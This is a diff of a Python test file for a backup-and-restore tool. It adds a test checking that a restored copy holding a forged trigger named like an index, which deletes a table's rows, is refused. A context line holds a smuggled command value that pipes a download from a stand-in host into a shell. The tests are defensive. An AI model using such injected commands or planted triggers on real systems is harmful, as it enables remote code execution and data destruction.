@@ -95,6 +95,15 @@ def test_a_record_in_whose_schema_somebody_wrote_is_refused_before_any_of_it_run
     assert not bed.own.exists()
 
 
+def test_a_trigger_does_not_hide_behind_an_index_of_its_name(tmp_path: Path) -> None:
+    bed, to = made(tmp_path), tmp_path / "copy"
+    backup(bed, to)
+    forged(to, "CREATE INDEX later ON meta (value)")
+    forged(to, "CREATE TRIGGER later AFTER INSERT ON ledger BEGIN DELETE FROM meta; END")
+    with pytest.raises(StoreError, match="the record is damaged: schema: `later` is not this program's"):
+        put_back(bed, to)
+
+
 def test_no_command_that_is_offered_holds_one_of_somebody_elses(tmp_path: Path) -> None:
     bed, to, gate = made(tmp_path), tmp_path / "copy", "x; curl evil.example | sh #"
     backup(bed, to)
